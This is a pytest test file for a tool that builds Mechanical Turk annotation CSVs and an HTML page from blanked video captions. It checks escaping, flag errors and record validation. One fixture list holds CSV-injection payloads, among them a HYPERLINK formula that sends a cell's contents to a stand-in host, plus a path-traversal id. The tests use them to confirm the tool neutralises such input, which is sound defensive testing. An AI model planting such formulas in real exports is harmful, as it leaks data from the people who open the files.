"""Tests of `fiberbench hit-inputs` and of the annotation page's template: the task layout of the release."""

import csv
import html
import json
import logging
import re

import pytest

from fiberbench.cli import main
from fiberbench.data import SAMPLE_DIR
from fiberbench.data.annotation import CLIPS_PER_TASK, PAGE_PATH, annotation_page, input_columns, preview_url
from fiberbench.data.hits import task_columns

from ..processes import modules_loaded
from .conftest import blanked_record

SAMPLE_VAL = json.loads((SAMPLE_DIR / "val.json").read_text())


def read_csv(path):
    with path.open(newline="", encoding="utf-8") as file:
        reader = csv.DictReader(file)
        return reader.fieldnames, list(reader)


@pytest.fixture
def blanked(tmp_path):
    """The sample's validation clips, one caption holding quotes, an ampersand and markup."""
    records = [dict(record) for record in SAMPLE_VAL]
    tricky = records[3]
    for field in ("caption", "masked_caption"):
        tricky[field] = f'He says "it\'s <b>fun</b>" & {tricky[field]}'
    path = tmp_path / "val.json"
    path.write_text(json.dumps(records))
    return path, records


@pytest.mark.parametrize("questions_per_hit, tasks, last_task_clips", [(5, 12, 5), (7, 9, 4)])
def test_one_row_per_task_in_file_order_the_last_holding_the_remainder(
    tmp_path, blanked, questions_per_hit, tasks, last_task_clips
):
    path, records = blanked
    output = tmp_path / "hits.csv"
    assert main(["hit-inputs", str(path), "--questions_per_hit", str(questions_per_hit), "--output_file", str(output)]) == 0
    columns, rows = read_csv(output)
    assert columns == [
        f"{name}{clip}{suffix}"
        for clip in range(1, questions_per_hit + 1)
        for name, suffix in [("video", "_id"), ("video", "_start_time"), ("video", "_end_time"), ("question", ""), ("label", "")]
    ]
    assert len(rows) == tasks
    clips = [
        {field: row[column] for field, column in input_columns(clip).items()}
        for row in rows
        for clip in range(1, questions_per_hit + 1)
    ]
    filled = [clip for clip in clips if clip["video_id"]]
    assert len(filled) == len(records) and clips[: len(records)] == filled  # the empty slots are the last ones
    assert all(not any(clip.values()) for clip in clips[len(records) :])
    assert sum(bool(rows[-1][f"video{clip}_id"]) for clip in range(1, questions_per_hit + 1)) == last_task_clips
    for clip, record in zip(filled, records):
        assert clip == {
            "video_id": record["video_id"],
            "video_start_time": str(record["video_start_time"]),
            "video_end_time": str(record["video_end_time"]),
            "masked_caption": html.escape(record["masked_caption"]),
            "label": record["label"],
        }


def test_captions_are_html_escaped_so_the_page_cannot_break(tmp_path, blanked):
    path, records = blanked
    output = tmp_path / "hits.csv"
    main(["hit-inputs", str(path), "--output_file", str(output)])
    question = read_csv(output)[1][0]["question4"]
    assert question == (
        "He says &quot;it&#x27;s &lt;b&gt;fun&lt;/b&gt;&quot; &amp; " + html.escape(SAMPLE_VAL[3]["masked_caption"])
    )
    assert not set('"<>\'') & set(question)
    assert html.unescape(question) == records[3]["masked_caption"]


def test_the_shipped_page_is_the_page_for_five_clips_and_its_placeholders_are_the_task_columns():
    page = PAGE_PATH.read_text(encoding="utf-8")
    assert annotation_page(CLIPS_PER_TASK) == page
    placeholders = re.findall(r"\$\{([^}]*)\}", page)
    # Every placeholder is a task input (Mechanical Turk refuses a template naming a column the CSV
    # lacks); labels are in the CSV for the results, never shown to workers.
    assert placeholders == [column for column in task_columns(CLIPS_PER_TASK) if not column.startswith("label")]
    assert page.count("${") == len(placeholders)


def outside_slots(page):
    return page[: page.index("<!-- clip slots")] + page[page.index("<!-- end of clip slots") :]


def test_page_file_writes_the_page_for_another_number_of_clips(tmp_path, blanked, caplog):
    path, _ = blanked
    page_file = tmp_path / "task.html"
    with caplog.at_level(logging.INFO):
        main(["hit-inputs", str(path), "--questions_per_hit", "3", "--output_file", str(tmp_path / "hits.csv"),
              "--page_file", str(page_file)])
    page = page_file.read_text()
    assert page == annotation_page(3)
    assert re.findall(r'data-video-id="\$\{(\w+)\}"', page) == ["video1_id", "video2_id", "video3_id"]
    assert outside_slots(page) == outside_slots(PAGE_PATH.read_text())
    assert f"Preview the first task in a browser: {page_file.resolve().as_uri()}?video1_id=" in caplog.text


def test_the_preview_url_carries_the_first_task(tmp_path, blanked, caplog):
    path, _ = blanked
    output = tmp_path / "hits.csv"
    with caplog.at_level(logging.INFO):
        main(["hit-inputs", str(path), "--output_file", str(output)])
    assert f"Preview the first task in a browser: {preview_url(read_csv(output)[1][0])}" in caplog.text
    assert "Wrote " + str(output) + ": 12 tasks of 5 clips (60 clips; the last task holds 5)" in caplog.text


def test_another_number_of_clips_without_a_page_is_a_warning(tmp_path, blanked, caplog):
    path, _ = blanked
    main(["hit-inputs", str(path), "--questions_per_hit", "4", "--output_file", str(tmp_path / "hits.csv")])
    assert "shows 5 clips per task: write one for 4 with --page_file" in caplog.text


@pytest.mark.parametrize(
    "arguments, status, message",
    [
        (["--questions_per_hit", "0"], 2, r"--questions_per_hit: must be at least 1, got 0"),
        (["--output_file", "{input}"], 2, r"--output_file .*val.json is an input of this command"),
        (["--page_file", "{input}"], 2, r"--page_file .*val.json is an input of this command"),
        (["--page_file", "{output}"], 2, r"--output_file .* and --page_file .* would both be written at"),
    ],
)
def test_bad_flags_are_one_line_and_write_nothing(tmp_path, blanked, cli_error, arguments, status, message):
    path, _ = blanked
    before = path.read_bytes()
    output = tmp_path / "hits.csv"
    arguments = [argument.format(input=path, output=output) for argument in arguments]
    if "--output_file" not in arguments:
        arguments += ["--output_file", str(output)]
    actual_status, line = cli_error("hit-inputs", path, *arguments)
    assert actual_status == status and re.search(message, line), line
    assert path.read_bytes() == before
    assert sorted(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize(
    "content, message",
    [
        ("[]", r"val.json: holds no clips"),
        ('[{"video_id": "a/../b", "video_start_time": 0, "video_end_time": 10, "masked_caption": "_____.", '
         '"label": "x"}]', r"val.json: record 0: field 'video_id': 'a/../b' is not a plain video id"),
        ('[{"video_id": "abc", "video_start_time": 0, "video_end_time": 10, "masked_caption": "no blank", '
         '"label": "x"}]', r"val.json: record 0: field 'masked_caption': expected exactly one blank"),
        ('[{"video_id": "abc", "video_start_time": 0, "video_end_time": 10, "masked_caption": "A _____.",'
         ' "label": "x"}, {"video_id": "abc", "video_start_time": 0, "video_end_time": 10, "masked_caption": "B _____.",'
         ' "label": "y"}]', r"val.json: record 1: clip \('abc', 0, 10\) is also record 0 of"),
        ('[{"video_id": "abc"', r"val.json: .*not closed|val.json: record 0: invalid JSON"),
    ],
)
def test_bad_blanked_files_are_one_line_and_leave_the_previous_output(
    tmp_path, cli_error, earlier_output, content, message
):
    path = tmp_path / "val.json"
    path.write_text(content)
    output = earlier_output(tmp_path / "hits.csv", "fiberbench hit-inputs", b"the previous run's tasks\n")
    record = (tmp_path / "hits.metadata.json").read_text()
    status, line = cli_error("hit-inputs", path, "--output_file", output, "--overwrite_output_file")
    assert status == 1 and re.search(message, line), line
    assert output.read_text() == "the previous run's tasks\n"
    assert (tmp_path / "hits.metadata.json").read_text() == record
    assert sorted(path.name for path in tmp_path.iterdir()) == ["hits.csv", "hits.metadata.json", "val.json"]


@pytest.mark.parametrize("command", ["hit-inputs", "answers"])
def test_help_imports_no_heavy_library(command):
    """`--help` answers at once: spaCy, torch, transformers, datasets and evaluate load only when a command runs."""
    code = (
        "import contextlib, io\n"
        "from fiberbench.cli import main\n"
        "with contextlib.redirect_stdout(io.StringIO()), contextlib.suppress(SystemExit):\n"
        f"    main([{command!r}, '--help'])\n"
    )
    assert modules_loaded(code, ["spacy", "torch", "transformers", "datasets", "evaluate"])[0] == []


# Cells a spreadsheet would run as formulas (OWASP's "CSV Injection"), as captions, labels and ids can start.
FORMULA_RECORDS = [
    ("=1+2 a cake is shown.", "a cake", "abcdefghij1"),
    ('A sign says =HYPERLINK("http://x.example/?d="&A1,"Open video").', '=HYPERLINK("http://x.example/?d="&A1,"Open video")', "abcdefghij2"),
    ("+1 and a dog runs.", "a dog", "-bcdefghij3"),
    ("-2 is on the board.", "the board", "abcdefghij4"),
    ("@home a man sings.", "a man", "abcdefghij5"),
    ("\t=1+1 is on the wall.", "the wall", "abcdefghij6"),
    ("\r=1+1 is on the door.", "the door", "abcdefghij7"),
    ("${price} is shown on a screen.", "a screen", "abcdefghij8"),
]


@pytest.fixture
def formula_blanked(tmp_path):
    records = [blanked_record(video_id, caption, label) for caption, label, video_id in FORMULA_RECORDS]
    path = tmp_path / "val.json"
    path.write_text(json.dumps(records))
    return path, records


def test_no_cell_of_the_task_csv_is_a_spreadsheet_formula_and_each_reads_back_as_written(tmp_path, formula_blanked):
    path, records = formula_blanked
    output = tmp_path / "hits.csv"
    assert main(["hit-inputs", str(path), "--output_file", str(output)]) == 0
    columns, rows = read_csv(output)
    cells = [row[column] for row in rows for column in columns]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    clips = [
        {field: html.unescape(row[column]) for field, column in input_columns(clip).items()}
        for row in rows
        for clip in range(1, CLIPS_PER_TASK + 1)
        if row[f"video{clip}_id"]
    ]
    assert clips == [
        {
            "video_id": record["video_id"],
            "video_start_time": str(record["video_start_time"]),
            "video_end_time": str(record["video_end_time"]),
            "masked_caption": record["masked_caption"],
            "label": record["label"],
        }
        for record in records
    ]


def test_answers_reads_the_ids_of_a_task_csv_back_as_the_blanked_file_has_them(tmp_path, formula_blanked):
    """Mechanical Turk returns each task input as it was in the CSV: `answers` matches them to the blanked clips."""
    path, records = formula_blanked
    hits = tmp_path / "hits.csv"
    assert main(["hit-inputs", str(path), "--output_file", str(hits)]) == 0
    columns, rows = read_csv(hits)
    results = tmp_path / "results.csv"
    with results.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["WorkerId", *(f"Input.{column}" for column in columns), "Answer.taskAnswers"])
        for row in rows:
            answers = {f"answer-{clip}-1": "a thing" for clip in range(1, CLIPS_PER_TASK + 1) if row[f"video{clip}_id"]}
            writer.writerow(["WORKER1", *(row[column] for column in columns), json.dumps([answers])])
    output_dir = tmp_path / "release"
    assert main(["answers", "--blanked_files", str(path), "--answers_files", str(results), "--output_dir",
                 str(output_dir), "--keep_non_noun_phrases"]) == 0
    merged = json.loads((output_dir / "val.json").read_text())
    assert [record["video_id"] for record in merged] == [record["video_id"] for record in records]
    assert all(record["additional_answers"] == [["a thing"]] for record in merged)
